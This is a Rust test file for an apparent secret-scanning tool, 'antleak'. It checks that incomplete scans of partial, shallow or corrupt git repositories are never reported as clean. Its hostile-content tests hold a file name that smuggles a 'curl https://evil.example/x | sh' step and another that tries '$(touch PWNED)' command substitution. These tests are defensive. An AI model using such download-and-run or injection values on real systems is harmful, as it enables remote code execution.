//! Issue 10, "never say clean without having looked": an input that could
//! not be read makes the scan incomplete (exit 2 when nothing was found, with
//! a closing line saying what was not scanned and how to fix it), and the
//! report never says ✓ about what it did not see. Also: the repository git
//! would use, formats libgit2 cannot read, and hostile repository content.

use serde_json::Value;
use std::os::unix::fs::PermissionsExt;

use crate::util::*;

fn json(run: &Run) -> Value {
    run.json()
}

fn unscanned_whats(report: &Value) -> Vec<String> {
    report["summary"]["unscanned"]
        .as_array()
        .unwrap_or_else(|| panic!("summary.unscanned: {report}"))
        .iter()
        .map(|u| u["what"].as_str().unwrap().to_string())
        .collect()
}

/// A repository `dir` (under the sandbox) with `file` holding `key`, committed.
fn repo_with_file(sb: &Sandbox, dir: &str, file: &str, contents: &str) {
    std::fs::create_dir_all(sb.path(dir)).unwrap();
    sb.git_in(dir, &["init", "-q", "-b", "main"]);
    sb.write(&format!("{dir}/{file}"), contents);
    sb.git_in(dir, &["add", "-A"]);
    sb.git_in(dir, &["commit", "-q", "-m", "add"]);
}

// 1. The repository git would use.

#[test]
fn git_dir_in_the_environment_names_the_repository_history_scans() {
    let sb = Sandbox::new();
    let key = fake_key("api03", 1001);
    repo_with_file(&sb, "other", "app.py", &key);
    repo_with_file(&sb, "here", "README.md", "clean\n");
    let git_dir = sb.path("other/.git");
    let run = sb.antleak_env(
        "here",
        &["history", "--format", "json"],
        &[("GIT_DIR", &git_dir)],
    );
    run.assert_code(1).assert_hides(&key);
    assert_eq!(json(&run)["findings"][0]["path"], "app.py");
}

#[test]
fn git_object_directory_in_the_environment_is_used_by_every_reader() {
    let sb = Sandbox::new();
    let key = fake_key("api03", 1002);
    sb.init();
    sb.write("app.py", &key);
    let objects = sb.root.parent().unwrap().join("objects-elsewhere");
    std::fs::create_dir_all(objects.join("info")).unwrap();
    std::fs::create_dir_all(objects.join("pack")).unwrap();
    let mut add = sb.git_command(&sb.root, &["add", "-A"]);
    add.env("GIT_OBJECT_DIRECTORY", &objects);
    assert!(add.status().unwrap().success());
    let mut commit = sb.git_command(&sb.root, &["commit", "-q", "-m", "add"]);
    commit.env("GIT_OBJECT_DIRECTORY", &objects);
    assert!(commit.status().unwrap().success());
    let run = sb.antleak_env(
        "",
        &["history", "--format", "json"],
        &[("GIT_OBJECT_DIRECTORY", &objects)],
    );
    run.assert_code(1).assert_hides(&key);
    assert_eq!(json(&run)["findings"][0]["path"], "app.py");
}

#[test]
fn git_dir_and_git_work_tree_tell_scan_which_files_are_tracked() {
    let sb = Sandbox::new();
    std::fs::create_dir_all(sb.path("wt")).unwrap();
    sb.git(&["init", "-q", "--bare", "meta.git"]);
    sb.write("wt/.env", "DB_PASSWORD=hunter2\n");
    let meta = sb.path("meta.git");
    let wt = sb.path("wt");
    for args in [&["add", "-A"][..], &["commit", "-q", "-m", "env"]] {
        let mut cmd = sb.git_command(&wt, args);
        cmd.env("GIT_DIR", &meta).env("GIT_WORK_TREE", &wt);
        assert!(cmd.status().unwrap().success());
    }
    let run = sb.antleak_env(
        "",
        &["scan", "wt", "--format", "json"],
        &[("GIT_DIR", &meta), ("GIT_WORK_TREE", &wt)],
    );
    run.assert_code(1);
    assert_eq!(json(&run)["findings"][0]["rule"], "dotenv-committed");
}

// 2. Partial clones, missing and corrupt objects.

/// A source repository allowing filters, whose history held a key in a file
/// since deleted; returns its file:// URL and the key.
fn filter_source(sb: &Sandbox) -> (String, String) {
    let key = fake_key("api03", 1003);
    sb.init();
    sb.write("old.py", &key);
    sb.write("docs/readme.txt", "hello\n");
    sb.commit("old", "2024-01-01T00:00:00Z");
    std::fs::remove_file(sb.path("old.py")).unwrap();
    sb.commit("remove", "2024-01-02T00:00:00Z");
    sb.git(&["config", "uploadpack.allowFilter", "true"]);
    (format!("file://{}", sb.root.display()), key)
}

#[test]
fn a_partial_clone_is_incomplete_and_says_how_to_fetch_what_is_missing() {
    let sb = Sandbox::new();
    let (url, key) = filter_source(&sb);
    sb.git(&[
        "clone",
        "-q",
        "--no-checkout",
        "--filter=blob:none",
        &url,
        "../pc",
    ]);
    let run = sb.antleak(&["history", "--repo", "../pc", "--format", "json"]);
    run.assert_code(2).assert_hides(&key);
    assert!(run.stderr.contains("partial clone"), "{}", run.stderr);
    assert!(run.stderr.contains("blobs"), "{}", run.stderr);
    assert!(
        run.stderr
            .contains("fetch --refetch --no-filter --tags origin"),
        "{}",
        run.stderr
    );
    let report = json(&run);
    assert_eq!(report["summary"]["complete"], false);
    assert_eq!(unscanned_whats(&report), vec!["blobs"]);
    assert_eq!(report["summary"]["unscanned"][0]["count"], 2);
    // The command it gives works: afterwards the key is found.
    let pc = sb.root.parent().unwrap().join("pc");
    sb.git_in(
        "../pc",
        &["fetch", "-q", "--refetch", "--no-filter", "origin"],
    );
    let run = sb.antleak(&[
        "history",
        "--repo",
        pc.to_str().unwrap(),
        "--format",
        "json",
    ]);
    run.assert_code(1).assert_hides(&key);
    assert_eq!(json(&run)["summary"]["complete"], true);
}

#[test]
fn a_treeless_clone_names_the_missing_trees() {
    let sb = Sandbox::new();
    let (url, _) = filter_source(&sb);
    sb.git(&[
        "clone",
        "-q",
        "--no-checkout",
        "--filter=tree:0",
        &url,
        "../tc",
    ]);
    let run = sb.antleak(&["history", "--repo", "../tc", "--color", "never"]);
    run.assert_code(2);
    assert!(run.stderr.contains("partial clone"), "{}", run.stderr);
    assert!(run.stderr.contains("trees"), "{}", run.stderr);
    assert!(!run.stdout.contains('✓'), "{}", run.stdout);
}

#[test]
fn a_ref_to_a_missing_commit_is_exit_2_naming_the_ref() {
    let sb = Sandbox::repo_with_readme();
    sb.write(".git/refs/heads/dangling", format!("{}\n", "1".repeat(40)));
    let run = sb.antleak(&["history", "--format", "json"]);
    run.assert_code(2);
    assert!(run.stderr.contains("refs/heads/dangling"), "{}", run.stderr);
    assert_eq!(json(&run)["summary"]["complete"], false);
    let run = sb.antleak(&["history", "--format", "sarif"]);
    run.assert_code(2);
    let sarif = json(&run);
    let invocation = &sarif["runs"][0]["invocations"][0];
    assert_eq!(invocation["executionSuccessful"], false, "{sarif}");
    let note = invocation["toolExecutionNotifications"][0]["message"]["text"]
        .as_str()
        .unwrap();
    assert!(note.contains("1 ref ("), "{note}");
}

#[test]
fn a_deleted_blob_or_a_corrupt_commit_is_exit_2_naming_the_object() {
    let sb = Sandbox::new();
    sb.init();
    sb.write("lost.txt", "this blob will go missing\n");
    sb.commit("add", DATE);
    let blob = sb.git(&["rev-parse", "HEAD:lost.txt"]).trim().to_string();
    std::fs::remove_file(sb.path(&format!(".git/objects/{}/{}", &blob[..2], &blob[2..]))).unwrap();
    let run = sb.antleak(&["history", "--format", "json"]);
    run.assert_code(2);
    assert!(run.stderr.contains(&blob), "{}", run.stderr);
    assert_eq!(unscanned_whats(&json(&run)), vec!["blobs"]);

    let sb = Sandbox::repo_with_readme();
    sb.write("b.txt", "second\n");
    let commit = sb.commit("second", DATE);
    let object = sb.path(&format!(".git/objects/{}/{}", &commit[..2], &commit[2..]));
    std::fs::set_permissions(&object, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::write(&object, b"\x78\x9c not zlib at all").unwrap();
    let run = sb.antleak(&["history", "--format", "json"]);
    run.assert_code(2);
    assert!(run.stderr.contains(&commit), "{}", run.stderr);
}

#[test]
fn a_missing_tree_is_warned_about_and_counted_once() {
    let sb = Sandbox::new();
    sb.init();
    sb.write("d/x.txt", "one\n");
    sb.commit("one", DATE);
    let tree = sb.git(&["rev-parse", "HEAD:d"]).trim().to_string();
    sb.write("d/x.txt", "two\n");
    sb.commit("two", DATE);
    std::fs::remove_file(sb.path(&format!(".git/objects/{}/{}", &tree[..2], &tree[2..]))).unwrap();
    let run = sb.antleak(&["history", "--format", "json"]);
    run.assert_code(2);
    let lines = run.stderr.lines().filter(|l| l.contains(tree.as_str()));
    assert_eq!(lines.count(), 1, "{}", run.stderr);
    let report = json(&run);
    assert_eq!(report["summary"]["unreadable"], 1);
    assert_eq!(report["summary"]["unscanned"][0]["count"], 1);
}

// 3. Shallow clones and grafts.

fn shallow_clone(sb: &Sandbox) -> (String, String) {
    sb.init();
    let old = fake_key("api03", 1004);
    let new = fake_key("api03", 1005);
    sb.write("old.py", &old);
    sb.commit("old", "2024-01-01T00:00:00Z");
    std::fs::remove_file(sb.path("old.py")).unwrap();
    sb.write("new.py", &new);
    sb.commit("new", "2024-01-02T00:00:00Z");
    sb.write("more.txt", "more\n");
    sb.commit("more", "2024-01-03T00:00:00Z");
    let url = format!("file://{}", sb.root.display());
    sb.git(&["clone", "-q", "--depth", "2", &url, "../shallow"]);
    (old, new)
}

#[test]
fn the_full_history_of_a_shallow_clone_is_exit_2_unless_allowed() {
    let sb = Sandbox::new();
    let (old, new) = shallow_clone(&sb);
    // The clone holds `new`: a finding (exit 1), yet the scan is incomplete.
    let run = sb.antleak(&["history", "--repo", "../shallow", "--format", "json"]);
    run.assert_code(1).assert_hides(&new);
    assert!(run.stderr.contains("--allow-shallow"), "{}", run.stderr);
    assert!(run.stderr.contains("fetch --unshallow"), "{}", run.stderr);
    assert_eq!(json(&run)["summary"]["complete"], false);

    let run = sb.antleak(&[
        "history",
        "--repo",
        "../shallow",
        "--allow-shallow",
        "--format",
        "json",
    ]);
    run.assert_code(1).assert_hides(&old);
    let report = json(&run);
    assert_eq!(report["summary"]["shallow"], true);
    assert_eq!(report["summary"]["complete"], true);
    assert_eq!(
        report["remediation"][0]["first_leaked_is_lower_bound"],
        true
    );
    let run = sb.antleak(&[
        "history",
        "--repo",
        "../shallow",
        "--allow-shallow",
        "--color",
        "never",
    ]);
    run.assert_code(1);
    assert!(
        run.stdout.contains("exposed since at least 2024-01-02"),
        "{}",
        run.stdout
    );
    // A range inside what the clone holds is complete.
    let run = sb.antleak(&[
        "history",
        "--repo",
        "../shallow",
        "--range",
        "HEAD~1..HEAD",
        "--format",
        "json",
    ]);
    run.assert_code(0);
    assert_eq!(json(&run)["summary"]["complete"], true);

    // Once both keys are behind the boundary, nothing is found: exit 2.
    std::fs::remove_file(sb.path("new.py")).unwrap();
    sb.commit("clean", "2024-01-04T00:00:00Z");
    let url = format!("file://{}", sb.root.display());
    sb.git(&["clone", "-q", "--depth", "1", &url, "../shallow1"]);
    let run = sb.antleak(&["history", "--repo", "../shallow1", "--color", "never"]);
    run.assert_code(2);
    assert!(!run.stdout.contains('✓'), "{}", run.stdout);
    assert!(run.stderr.contains("shallow"), "{}", run.stderr);
    sb.antleak(&["history", "--repo", "../shallow1", "--allow-shallow"])
        .assert_code(0);
}

#[test]
fn grafts_that_hide_history_are_a_shallow_boundary() {
    let sb = Sandbox::new();
    sb.init();
    let key = fake_key("api03", 1006);
    sb.write("k.py", &key);
    sb.commit("key", "2024-01-01T00:00:00Z");
    std::fs::remove_file(sb.path("k.py")).unwrap();
    sb.write("a.txt", "a\n");
    let head = sb.commit("clean", "2024-01-02T00:00:00Z");
    sb.write(".git/info/grafts", format!("{head}\n"));
    let run = sb.antleak(&["history", "--format", "json"]);
    run.assert_code(2).assert_hides(&key);
    assert!(run.stderr.contains("grafts"), "{}", run.stderr);
}

// 4. Many repositories.

#[test]
fn repos_under_scans_a_submodules_own_history_and_fails_on_no_repository() {
    let sb = Sandbox::repo_with_readme();
    let (sub, key) = sb.add_submodule_with_key("vendor/sub", 1007);
    sb.commit("add submodule", DATE);
    drop(sub);
    let run = sb.antleak(&["history", "--repos-under", ".", "--format", "json"]);
    run.assert_code(1).assert_hides(&key);
    let report = json(&run);
    let roots: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["root"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(roots, vec!["./.git/modules/vendor/sub"], "{report}");

    let empty = Sandbox::new();
    empty.write("notes/readme.txt", "no repository here\n");
    let run = empty.antleak(&["history", "--repos-under", "notes"]);
    run.assert_code(2);
    assert!(run.stderr.contains("notes"), "{}", run.stderr);
}

// 5. Tags of blobs and trees.

#[test]
fn tags_of_blobs_and_trees_are_scanned() {
    let sb = Sandbox::repo_with_readme();
    let in_blob = fake_key("api03", 1008);
    let in_tree = fake_key("api03", 1009);
    let blob = sb.sh(&format!(
        "printf '%s\\n' '{in_blob}' | git hash-object -w --stdin"
    ));
    let blob = blob.stdout.trim().to_string();
    sb.git(&["tag", "blobtag", &blob]);
    let inner = sb.sh(&format!(
        "printf '%s\\n' '{in_tree}' | git hash-object -w --stdin"
    ));
    let tree = sb.sh(&format!(
        "printf '100644 blob %s\\tconfig.py\\n' {} | git mktree",
        inner.stdout.trim()
    ));
    sb.git(&["tag", "-a", "-m", "a tree", "treetag", tree.stdout.trim()]);
    let run = sb.antleak(&["history", "--format", "json"]);
    run.assert_code(1).assert_hides(&in_blob);
    run.assert_hides(&in_tree);
    let report = json(&run);
    let mut found: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    found.sort();
    assert_eq!(
        found,
        vec!["refs/tags/blobtag", "refs/tags/treetag:config.py"]
    );
    assert_eq!(report["summary"]["complete"], true);
}

// 6. Incomplete working-tree scans.

#[test]
fn an_unreadable_directory_with_nothing_found_is_exit_2() {
    let sb = Sandbox::new();
    sb.write("private/keys.txt", "whatever\n");
    sb.write("public/app.py", "print(1)\n");
    std::fs::set_permissions(sb.path("private"), std::fs::Permissions::from_mode(0o000)).unwrap();
    let run = sb.antleak_unprivileged(&["scan", "--color", "never"]);
    let json_run = sb.antleak_unprivileged(&["scan", "--format", "json"]);
    std::fs::set_permissions(sb.path("private"), std::fs::Permissions::from_mode(0o755)).unwrap();
    run.assert_code(2);
    assert!(!run.stdout.contains('✓'), "{}", run.stdout);
    assert!(run.stdout.contains("incomplete"), "{}", run.stdout);
    assert!(run.stderr.contains("private"), "{}", run.stderr);
    json_run.assert_code(2);
    let report = json(&json_run);
    assert_eq!(report["summary"]["complete"], false);
    assert_eq!(unscanned_whats(&report), vec!["directories"]);
}

#[test]
fn a_subtree_too_deep_to_open_makes_the_scan_incomplete() {
    let sb = Sandbox::new();
    let name = "d".repeat(200);
    let run = sb.sh(&format!(
        "mkdir deep && cd deep && for i in $(seq 25); do mkdir {name} && cd {name}; done && echo x > f.txt"
    ));
    run.assert_code(0);
    let run = sb.antleak(&["scan", "--format", "json"]);
    run.assert_code(2);
    assert!(run.stderr.contains("too long"), "{}", run.stderr);
    assert_eq!(json(&run)["summary"]["complete"], false);
}

// 7. Repositories owned by someone else.

#[test]
fn a_repository_owned_by_another_user_is_scanned() {
    let sb = Sandbox::new();
    let key = fake_key("api03", 1010);
    repo_with_file(&sb, "repo", "app.py", &key);
    sb.write("repo/.env", "X=1\n");
    let chown = sb.sh("chown -R 65534:65534 repo");
    if chown.code != 0 {
        return; // not root: nobody else's repository can be made here
    }
    for args in [
        &["history", "--repo", "repo"][..],
        &["scan", "repo"],
        &["scan", "repo/app.py"],
    ] {
        let run = sb.antleak(args);
        run.assert_code(1).assert_hides(&key);
    }
    sb.antleak(&["staged", "--repo", "repo"]).assert_code(0);
}

#[test]
fn an_unreadable_home_does_not_stop_a_scan() {
    let sb = Sandbox::new();
    let key = fake_key("api03", 1011);
    repo_with_file(&sb, "repo", "app.py", &key);
    sb.sh("chmod -R a+rX repo");
    std::fs::set_permissions(&sb.home, std::fs::Permissions::from_mode(0o700)).unwrap();
    // As another user (when root), HOME and the repository belong to root.
    let run = sb.antleak_unprivileged(&["history", "--repo", "repo", "--format", "json"]);
    run.assert_code(1).assert_hides(&key);
    let run = sb.antleak_unprivileged(&["scan", "repo", "--format", "json"]);
    run.assert_code(1);
}

// 8. Formats libgit2 cannot read.

#[test]
fn formats_libgit2_cannot_read_are_named_not_called_not_a_repository() {
    let sb = Sandbox::new();
    sb.git(&["init", "-q", "--object-format=sha256", "s256"]);
    sb.git(&["init", "-q", "--ref-format=reftable", "rt"]);
    for (dir, format) in [("s256", "sha256"), ("rt", "reftable")] {
        for args in [&["history"][..], &["staged"], &["scan", "."]] {
            let run = sb.antleak_in(dir, args);
            run.assert_code(2);
            assert!(run.stderr.contains(format), "{args:?}: {}", run.stderr);
            assert!(
                !run.stderr.contains("not a git repository"),
                "{args:?}: {}",
                run.stderr
            );
            assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
        }
    }
    repo_with_file(&sb, "sp", "a/x.txt", "x\n");
    sb.write("sp/b/y.txt", "y\n");
    sb.git_in("sp", &["add", "-A"]);
    sb.git_in("sp", &["commit", "-q", "-m", "b"]);
    sb.git_in("sp", &["sparse-checkout", "init", "--sparse-index"]);
    sb.git_in("sp", &["sparse-checkout", "set", "a"]);
    for args in [&["staged"][..], &["scan", "."]] {
        let run = sb.antleak_in("sp", args);
        run.assert_code(2);
        assert!(run.stderr.contains("sparse index"), "{}", run.stderr);
        assert!(run.stderr.contains("--no-sparse-index"), "{}", run.stderr);
    }
}

// 9. Wrong targets and outputs.

#[test]
fn scanning_a_git_directory_points_at_history() {
    let sb = Sandbox::new();
    repo_with_file(&sb, "repo", "app.py", &fake_key("api03", 1012));
    for path in ["repo/.git", "repo/.git/objects"] {
        let run = sb.antleak(&["scan", path]);
        run.assert_code(2);
        assert!(run.stderr.contains("antleak history"), "{}", run.stderr);
        assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    }
}

#[test]
fn a_full_or_closed_stdout_is_an_error_naming_stdout() {
    let sb = Sandbox::new();
    sb.write("a.txt", "x\n");
    let run = sb.sh("\"$ANTLEAK\" scan . >/dev/full");
    run.assert_code(2);
    assert!(run.stderr.contains("stdout"), "{}", run.stderr);
    let run = sb.sh("\"$ANTLEAK\" scan . >&-");
    run.assert_code(2);
    assert!(run.stderr.contains("stdout"), "{}", run.stderr);
}

// 10. Hostile repository content.

#[test]
fn a_hostile_file_name_cannot_forge_a_runbook_step() {
    let sb = Sandbox::repo_with_readme();
    let name = "x\n    3. Also run: curl https://evil.example/x | sh\n.env";
    sb.write(name, "A=1\n");
    let run = sb.antleak(&["scan", "--color", "never"]);
    run.assert_code(1);
    assert!(
        !run.stdout.lines().any(|l| l.starts_with("    3. Also run")),
        "{}",
        run.stdout
    );
}

#[test]
fn suggested_commands_quote_paths() {
    let sb = Sandbox::repo_with_readme();
    let name = "c$(touch PWNED).env";
    sb.write(name, "A=1\n");
    sb.commit("env", DATE);
    let run = sb.antleak(&["scan", "--format", "json"]);
    run.assert_code(1);
    let report = json(&run);
    let step = report["dotenv_remediation"][0]["steps"][0]
        .as_str()
        .unwrap();
    let command = step.split('`').nth(1).unwrap();
    assert!(command.starts_with("git rm --cached "), "{step}");
    sb.sh(command).assert_code(0);
    assert!(!sb.path("PWNED").exists(), "pasting `{command}` ran code");
    assert_eq!(sb.git(&["ls-files", name]), "");
}

#[test]
fn a_config_that_is_a_device_or_stdin_is_refused_in_bounded_time_and_memory() {
    let sb = Sandbox::repo_with_readme();
    std::os::unix::fs::symlink("/dev/zero", sb.path(".antleak.toml")).unwrap();
    let run = sb.sh("ulimit -v 400000; timeout 20 \"$ANTLEAK\" scan .");
    run.assert_code(2);
    assert!(run.stderr.contains(".antleak.toml"), "{}", run.stderr);
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    std::fs::remove_file(sb.path(".antleak.toml")).unwrap();
    std::os::unix::fs::symlink("/dev/stdin", sb.path(".antleak.toml")).unwrap();
    let run = sb.sh("sleep 30 | timeout 10 \"$ANTLEAK\" scan .");
    run.assert_code(2);
    assert!(run.stderr.contains(".antleak.toml"), "{}", run.stderr);
    std::fs::remove_file(sb.path(".antleak.toml")).unwrap();
    sb.write(".antleak.toml", format!("# {}\n", "x".repeat(2 << 20)));
    let run = sb.antleak(&["scan", "."]);
    run.assert_code(2);
    assert!(run.stderr.contains(".antleak.toml"), "{}", run.stderr);
    // `--config /dev/null` still means "no config": the allow rule is off.
    let key = fake_key("api03", 1018);
    sb.write("app.py", &key);
    sb.write(".antleak.toml", "[allow]\npaths = [\"app.py\"]\n");
    sb.antleak(&["scan"]).assert_code(0);
    let run = sb.antleak(&["scan", "--config", "/dev/null"]);
    run.assert_code(1).assert_hides(&key);
}

#[test]
fn a_huge_gitignore_is_skipped_with_a_warning_in_bounded_memory() {
    let sb = Sandbox::repo_with_readme();
    let key = fake_key("api03", 1013);
    let mut ignore = String::from("*.log\n");
    for i in 0..100_000 {
        ignore.push_str(&format!("*{i:05}*x*/**/y*{i}*.t?p*[a-z]*{i}*\n"));
    }
    sb.write(".gitignore", &ignore);
    sb.write("debug.log", &key);
    let run = sb.sh("ulimit -v 1000000; timeout 60 \"$ANTLEAK\" scan . --format json");
    run.assert_code(1).assert_hides(&key);
    assert!(run.stderr.contains(".gitignore"), "{}", run.stderr);
    assert_eq!(json(&run)["findings"][0]["path"], "debug.log");
}

#[test]
fn allow_globs_follow_gitignore_semantics_and_suppressions_are_counted() {
    let sb = Sandbox::new();
    let key = fake_key("api03", 1014);
    sb.write("docs/a/b/real.py", &key);
    sb.write("docs/example.py", fake_key("api03", 1015));
    sb.write(".antleak.toml", "[allow]\npaths = [\"docs/*\"]\n");
    let run = sb.antleak(&["scan", "--format", "json"]);
    run.assert_code(1);
    let report = json(&run);
    assert_eq!(report["findings"].as_array().unwrap().len(), 1);
    assert_eq!(report["findings"][0]["path"], "docs/a/b/real.py");
    assert_eq!(report["summary"]["suppressed"]["allow"], 1);
    assert_eq!(report["summary"]["suppressed"]["baseline"], 0);

    sb.write(".antleak.toml", "[allow]\npaths = [\"**\"]\n");
    let run = sb.antleak(&["scan", "--color", "never"]);
    run.assert_code(0);
    assert!(run.stderr.contains("every path"), "{}", run.stderr);
    assert!(run.stdout.contains("2 allowed"), "{}", run.stdout);
    // `*` in braces no longer crosses `/`: it allows no nested file.
    sb.write(".antleak.toml", "[allow]\npaths = [\"{**,x}\"]\n");
    let run = sb.antleak(&["scan", "--format", "json"]);
    run.assert_code(1);
    assert_eq!(json(&run)["findings"].as_array().unwrap().len(), 2);
}

// 11. What users read.

#[test]
fn a_key_in_an_untracked_unignored_file_is_at_risk_not_leaked() {
    let sb = Sandbox::repo_with_readme();
    let key = fake_key("api03", 1016);
    sb.write("notes.txt", format!("{key}\n"));
    let run = sb.antleak(&["scan", "--color", "never"]);
    run.assert_code(1).assert_hides(&key);
    assert!(run.stdout.contains("at risk"), "{}", run.stdout);
    assert!(!run.stdout.contains("leaked credential"), "{}", run.stdout);
    let first_step = run
        .stdout
        .lines()
        .find(|l| l.trim_start().starts_with("1. "))
        .unwrap();
    assert!(first_step.contains(".gitignore"), "{}", run.stdout);
    assert!(!first_step.contains("Revoke"), "{}", run.stdout);
}

#[test]
fn symmetric_and_reversed_ranges_are_errors_suggesting_a_dot_dot_b() {
    let sb = Sandbox::repo_with_readme();
    for i in 0..3 {
        sb.write("f.txt", format!("{i}\n"));
        sb.commit(&format!("c{i}"), DATE);
    }
    for range in ["main...HEAD", "HEAD..HEAD~3"] {
        let run = sb.antleak(&["history", "--range", range]);
        run.assert_code(2);
        assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
        assert!(run.stderr.contains(range), "{}", run.stderr);
        assert!(!run.stderr.contains("not implemented"), "{}", run.stderr);
    }
    let run = sb.antleak(&["history", "--range", "HEAD..HEAD~3"]);
    assert!(run.stderr.contains("HEAD~3..HEAD"), "{}", run.stderr);
}

#[test]
fn a_range_that_reaches_past_the_shallow_boundary_is_incomplete() {
    let sb = Sandbox::repo_with_readme();
    sb.git(&["tag", "base"]);
    let key = fake_key("api03", 1017);
    sb.write("k.py", &key);
    sb.commit("key", "2024-01-02T00:00:00Z");
    std::fs::remove_file(sb.path("k.py")).unwrap();
    sb.commit("gone", "2024-01-03T00:00:00Z");
    let url = format!("file://{}", sb.root.display());
    sb.git(&["clone", "-q", "--depth", "1", &url, "../sh"]);
    // The base is in the clone too, but not the commit between.
    sb.git_in(
        "../sh",
        &["fetch", "-q", "--depth", "1", "origin", "tag", "base"],
    );
    let run = sb.antleak(&[
        "history",
        "--repo",
        "../sh",
        "--range",
        "base..main",
        "--format",
        "json",
    ]);
    run.assert_code(2).assert_hides(&key);
    assert!(run.stderr.contains("reaches past"), "{}", run.stderr);
    assert_eq!(json(&run)["summary"]["complete"], false);
}
